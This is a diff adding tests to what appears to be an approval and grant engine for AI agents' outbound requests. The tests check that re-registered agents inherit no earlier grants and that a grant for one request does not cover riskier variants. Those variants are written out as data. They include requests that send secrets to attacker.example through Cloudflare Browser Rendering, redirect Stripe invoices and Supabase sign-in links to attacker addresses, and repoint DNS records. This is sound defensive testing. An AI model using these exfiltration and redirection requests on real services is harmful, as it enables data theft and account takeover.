@@ -10,6 +10,7 @@ import path from 'node:path';
 import fc from 'fast-check';
 import t from 'tap';
 import { ApprovalQueue } from '../../state/approvals.ts';
+import { AgentStore } from '../../state/agents.ts';
 import { PolicyEngine } from '../../engine/engine.ts';
 import type { RequestDescription } from '../../describe/types.ts';
 import { loadAdapters } from '../../describe/adapters/index.ts';
@@ -787,5 +788,174 @@ t.test('no spelling of one SQL name reads as another in a grant\'s scope', async
   for (const [a, b] of pairs) {
     const [sa, sb] = [a, b].map((q) => operationScope(describe({ url: 'https://abcdefghijklmnopqrst.supabase.co/pg/query', type: 'application/json', body: JSON.stringify({ query: q }) })));
     t.notSame(sa, sb, `${a} / ${b}`);
+  }
+});
+
+t.test('an agent removed and added again under its name inherits neither grants nor approvals (tenth pass)', async (t) => {
+  // Agents are named, and grants and approvals were keyed by the name: `airlock agents remove coder`
+  // then `add coder` (another task, another person's agent) got the earlier agent's "allow similar"
+  // grants for their remaining minutes, and could retry its approved-but-unused requests.
+  const home = tempDir(t, 'airlock-agents-');
+  const agents = await AgentStore.open(home);
+  const queue = await ApprovalQueue.open(tempDir(t, 'airlock-grants-'), { sweepMs: 0 });
+  t.teardown(() => queue.close());
+  const as = async (token: string): Promise<RequestDescription> => {
+    const agent = (await agents.identify('coder', token))!.agent;
+    return describeRequest({ method: 'POST', url: 'https://api.github.com/repos/acme/widgets/issues', headers: [['content-type', 'application/json']], body: Buffer.from('{"title":"x"}'), bodyTruncated: false }, { agent });
+  };
+  const first = await agents.add('coder');
+  const approved = await as(first.token);
+  const own = await engine.decide(approved);
+  t.equal(own.action, 'approve');
+  await queue.approve((await queue.create(approved, own)).id, { by: 'test', grantMinutes: 30 });
+  const unused = await queue.create(approved, own);
+  await queue.approve(unused.id, { by: 'test' });
+  const same = await as(first.token);
+  same.grants = queue.matchingGrants(same);
+  t.match(await engine.decide(same), { action: 'allow', rule: 'granted' }, 'the grant covers the agent it was given to');
+  await agents.remove('coder');
+  await new Promise((r) => setTimeout(r, 5)); // registration times are in milliseconds
+  const second = await agents.add('coder');
+  const later = await as(second.token);
+  later.grants = queue.matchingGrants(later);
+  t.same(later.grants, [], 'no grant is offered to the new agent');
+  later.grants = queue.grants() as typeof later.grants;
+  t.match(await engine.decide(later), { action: 'approve', grants: { offered: [], withheld: [{ reason: /earlier agent named coder/ }] } }, 'the engine withholds it too');
+  t.match(queue.claimRetry(unused.id, later), { kind: 'refused', reason: /different request/ }, 'the earlier agent\'s approval is not the new agent\'s to retry');
+  t.match(queue.claimRetry(unused.id, same), { kind: 'approved' }, 'the earlier agent\'s own retry still works');
+});
+
+t.test('a grant covers the same Actions run (workflow, ref, event type, inputs), visibility, merge and deployment target, what a send names or reaches, sign-in link recipient and page, DNS record only (tenth pass)', async (t) => {
+  // A GitHub dispatch's body names what runs: a grant for running CI on a feature branch covered
+  // running the deploy workflow, on the default branch, with `environment: production`.
+  const queue = await ApprovalQueue.open(tempDir(t, 'airlock-grants-'), { sweepMs: 0 });
+  t.teardown(() => queue.close());
+  const wd = (wf: string, body: unknown): Shape => ({ url: `https://api.github.com/repos/acme/widgets/actions/workflows/${wf}/dispatches`, type: 'application/json', body: JSON.stringify(body) });
+  const rd = (body: unknown): Shape => ({ url: 'https://api.github.com/repos/acme/widgets/dispatches', type: 'application/json', body: JSON.stringify(body) });
+  const gh = (path: string, body: unknown): Shape => ({ url: `https://api.github.com${path}`, type: 'application/json', body: JSON.stringify(body) });
+  const sb = (path: string, body: unknown): Shape => ({ url: `https://abcdefghijkl.supabase.co${path}`, type: 'application/json', body: JSON.stringify(body) });
+  const gq = (query: string): Shape => ({ url: 'https://api.github.com/graphql', type: 'application/json', body: JSON.stringify({ query }) });
+  const st = (path: string, body: string): Shape => ({ url: `https://api.stripe.com${path}`, type: 'application/x-www-form-urlencoded', body });
+  const cfa = 'https://api.cloudflare.com/client/v4/accounts/01a7362d577a6c3019a474fd6f485823';
+  const cf = (body: unknown): Shape => ({ url: 'https://api.cloudflare.com/client/v4/zones/023e105f4ecef8ad9ca31a8372d0c353/dns_records', type: 'application/json', body: JSON.stringify(body) });
+  const cases: Array<[string, Shape, Shape[]]> = [
+    ['workflow dispatch', wd('ci.yml', { ref: 'feature', inputs: { environment: 'staging' } }), [
+      wd('deploy.yml', { ref: 'feature', inputs: { environment: 'staging' } }),
+      wd('ci.yml', { ref: 'main', inputs: { environment: 'staging' } }),
+      wd('ci.yml', { ref: 'feature', inputs: { environment: 'production' } }),
+      wd('ci.yml', { ref: 'feature' }),
+    ]],
+    ['repository dispatch', rd({ event_type: 'build', client_payload: { env: 'staging' } }), [
+      rd({ event_type: 'deploy-prod', client_payload: { env: 'staging' } }),
+      rd({ event_type: 'build', client_payload: { env: 'prod' } }),
+    ]],
+    // Who can read what is created, and whether it is published: a grant for a private
+    // repository, a secret gist or a draft release covered a public one, or one published under
+    // another tag created from the default branch (the tag a release workflow deploys from).
+    ['private repository', gh('/user/repos', { name: 'notes', private: true }), [
+      gh('/user/repos', { name: 'notes', private: false }),
+      gh('/user/repos', { name: 'notes' }),
+      gh('/user/repos', { name: 'notes', private: true, visibility: 'public' }),
+    ]],
+    ['secret gist', gh('/gists', { public: false, files: { 'a.txt': { content: 'x' } } }), [
+      gh('/gists', { public: true, files: { 'a.txt': { content: 'x' } } }),
+    ]],
+    ['draft release', gh('/repos/acme/widgets/releases', { tag_name: 'v1-rc', draft: true, target_commitish: 'feature' }), [
+      gh('/repos/acme/widgets/releases', { tag_name: 'v1-rc', draft: false, target_commitish: 'feature' }),
+      gh('/repos/acme/widgets/releases', { tag_name: 'v9', draft: true, target_commitish: 'feature' }),
+      gh('/repos/acme/widgets/releases', { tag_name: 'v1-rc', draft: true }),
+    ]],
+    // Where a merge lands and what it brings in; where a deployment goes (GitHub's default: production).
+    ['branch merge', gh('/repos/acme/widgets/merges', { base: 'dev', head: 'feature' }), [
+      gh('/repos/acme/widgets/merges', { base: 'main', head: 'feature' }),
+      gh('/repos/acme/widgets/merges', { base: 'dev', head: 'attacker-branch' }),
+    ]],
+    ['fork sync', gh('/repos/acme/widgets/merge-upstream', { branch: 'dev' }), [gh('/repos/acme/widgets/merge-upstream', { branch: 'main' })]],
+    ['deployment', gh('/repos/acme/widgets/deployments', { ref: 'feature', environment: 'staging' }), [
+      gh('/repos/acme/widgets/deployments', { ref: 'feature', environment: 'production' }),
+      gh('/repos/acme/widgets/deployments', { ref: 'feature' }),
+      gh('/repos/acme/widgets/deployments', { ref: 'main', environment: 'staging' }),
+    ]],
+    // The GraphQL twins: mergeBranch's base and head, createRepository's visibility.
+    ['GraphQL branch merge', gq('mutation { mergeBranch(input: {repositoryId: "R_1", base: "dev", head: "feature"}) { clientMutationId } }'), [
+      gq('mutation { mergeBranch(input: {repositoryId: "R_1", base: "main", head: "feature"}) { clientMutationId } }'),
+      gq('mutation { mergeBranch(input: {repositoryId: "R_1", base: "dev", head: "evil"}) { clientMutationId } }'),
+    ]],
+    ['GraphQL private repository', gq('mutation { createRepository(input: {name: "x", visibility: PRIVATE}) { clientMutationId } }'), [
+      gq('mutation { createRepository(input: {name: "x", visibility: PUBLIC}) { clientMutationId } }'),
+    ]],
+    // Stripe: a public link to one file covered a link to any file (an identity document); an
+    // invoice emailed covered emailing any other invoice (another customer).
+    ['Stripe file link', st('/v1/file_links', 'file=file_logo'), [st('/v1/file_links', 'file=file_passport'), st('/v1/file_links?file=file_passport', 'file=file_logo')]],
+    ['Stripe invoice send', st('/v1/invoices/in_1/send', ''), [st('/v1/invoices/in_2/send', '')]],
+    // A customer's email is where their invoices and receipts go: a grant for a metadata update
+    // covered redirecting them (also as Rack reads a repeated or bracketed name).
+    ['Stripe customer update', st('/v1/customers/cus_1', 'metadata[tier]=gold'), [
+      st('/v1/customers/cus_1', 'metadata[tier]=gold&email=drop@attacker.example'),
+      st('/v1/customers/cus_1?email=drop@attacker.example', 'metadata[tier]=gold'),
+    ]],
+    // A send reaching a page, a number or publishing an object: Cloudflare's Browser Rendering
+    // and URL Scanner fetch the `url` given (a grant for the team's site covered the attacker's,
+    // its query carrying data), an OpenAI Realtime call transferred to another number, a Supabase
+    // signed URL (a public link) to another object.
+    ['Cloudflare Browser Rendering', { url: `${cfa}/browser-rendering/content`, type: 'application/json', body: '{"url":"https://acme.dev/"}' }, [
+      { url: `${cfa}/browser-rendering/content`, type: 'application/json', body: '{"url":"https://attacker.example/?d=secret"}' },
+      { url: `${cfa}/browser-rendering/content`, type: 'application/json', body: '{"html":"<img src=https://attacker.example/?d=secret>"}' },
+    ]],
+    ['Cloudflare URL Scanner', { url: `${cfa}/urlscanner/v2/scan`, type: 'application/json', body: '{"url":"https://acme.dev/"}' }, [
+      { url: `${cfa}/urlscanner/v2/scan`, type: 'application/json', body: '{"url":"https://attacker.example/?d=secret"}' },
+    ]],
+    ['OpenAI call transfer', { url: 'https://api.openai.com/v1/realtime/calls/c1/refer', type: 'application/json', body: '{"target_uri":"tel:+15550001"}' }, [
+      { url: 'https://api.openai.com/v1/realtime/calls/c1/refer', type: 'application/json', body: '{"target_uri":"tel:+19005550199"}' },
+    ]],
+    ['Supabase signed URL', sb('/storage/v1/object/sign/docs/public/logo.png', { expiresIn: 60 }), [
+      sb('/storage/v1/object/sign/docs/hr/passport.pdf', { expiresIn: 60 }),
+      sb('/storage/v1/object/sign/docs', { expiresIn: 60, paths: ['hr/passport.pdf'] }),
+    ]],
+    // The same over MCP (GitHub's MCP server's `run_workflow`, `merge_branch`, `create_repository`):
+    // argument names that say what runs and where it lands are the call's place too.
+    ['MCP run_workflow', mcpPlaced(['run_workflow', { owner: 'acme', repo: 'widgets', workflow_id: 'ci.yml', ref: 'feature', inputs: { environment: 'staging' } }]), [
+      mcpPlaced(['run_workflow', { owner: 'acme', repo: 'widgets', workflow_id: 'deploy.yml', ref: 'feature', inputs: { environment: 'staging' } }]),
+      mcpPlaced(['run_workflow', { owner: 'acme', repo: 'widgets', workflow_id: 'ci.yml', ref: 'main', inputs: { environment: 'staging' } }]),
+      mcpPlaced(['run_workflow', { owner: 'acme', repo: 'widgets', workflow_id: 'ci.yml', ref: 'feature', inputs: { environment: 'production' } }]),
+    ]],
+    ['MCP merge_branch', mcpPlaced(['merge_branch', { owner: 'acme', repo: 'widgets', base: 'dev', head: 'feature' }]), [
+      mcpPlaced(['merge_branch', { owner: 'acme', repo: 'widgets', base: 'main', head: 'feature' }]),
+    ]],
+    ['MCP create_repository', mcpPlaced(['create_repository', { name: 'notes', private: true }]), [mcpPlaced(['create_repository', { name: 'notes', private: false }])]],
+    ['Slack ephemeral message', { url: 'https://slack.com/api/chat.postEphemeral', type: 'application/x-www-form-urlencoded', body: 'channel=C0TEAM&user=U0ALICE&text=hi' }, [
+      { url: 'https://slack.com/api/chat.postEphemeral', type: 'application/x-www-form-urlencoded', body: 'channel=C0TEAM&user=U0EVE&text=hi' },
+      { url: 'https://slack.com/api/chat.postEphemeral', type: 'application/x-www-form-urlencoded', body: 'channel=C0TEAM&user=U0ALICE&text=hi&%20user=U0EVE' },
+    ]],
+    // Supabase Auth: a sign-in link or code, or a password reset, to one colleague covered one to
+    // anyone (with `create_user`, an account on the app) or one whose link leads to another site.
+    ['Supabase sign-in link', sb('/auth/v1/otp', { email: 'alice@corp.example' }), [
+      sb('/auth/v1/otp', { email: 'drop@attacker.example', create_user: true }),
+      sb('/auth/v1/otp?redirect_to=https://evil.example/cb', { email: 'alice@corp.example' }),
+      sb('/auth/v1/otp', { email: 'alice@corp.example', options: { emailRedirectTo: 'https://evil.example/cb' } }),
+      sb('/auth/v1/otp', { phone: '+15550009999' }),
+    ]],
+    ['Supabase password reset', sb('/auth/v1/recover', { email: 'alice@corp.example' }), [sb('/auth/v1/recover', { email: 'bob@corp.example' })]],
+    // A DNS record's name, type and content: a grant for a preview host covered pointing the
+    // site elsewhere, a TXT record on the apex (domain verification) and an ACME challenge.
+    ['Cloudflare DNS record', cf({ type: 'A', name: 'preview.acme.dev', content: '10.0.0.1' }), [
+      cf({ type: 'CNAME', name: 'www.acme.dev', content: 'attacker.example' }),
+      cf({ type: 'TXT', name: 'acme.dev', content: 'google-site-verification=xyz' }),
+      cf({ type: 'TXT', name: '_acme-challenge.acme.dev', content: 'evil' }),
+      cf({ type: 'A', name: 'preview.acme.dev', content: '203.0.113.66' }),
+    ]],
+  ];
+  for (const [name, first, others] of cases) {
+    for (const g of queue.grants()) await queue.revokeGrant(g.id);
+    const approved = describe(first);
+    await queue.approve((await queue.create(approved, await engine.decide(approved))).id, { by: 'test', grantMinutes: 30, grantHigh: true });
+    const same = describe(first);
+    same.grants = queue.matchingGrants(same);
+    t.match(await engine.decide(same), { action: 'allow' }, `${name}: the same run is covered`);
+    for (const other of others) {
+      const d = describe(other);
+      d.grants = queue.matchingGrants(d);
+      t.match(await engine.decide(d), { action: 'approve', grants: { offered: [] } }, `${name}: not covered: ${other.url.split('/').slice(-2).join('/')} ${other.body}`);
+    }
   }
 });
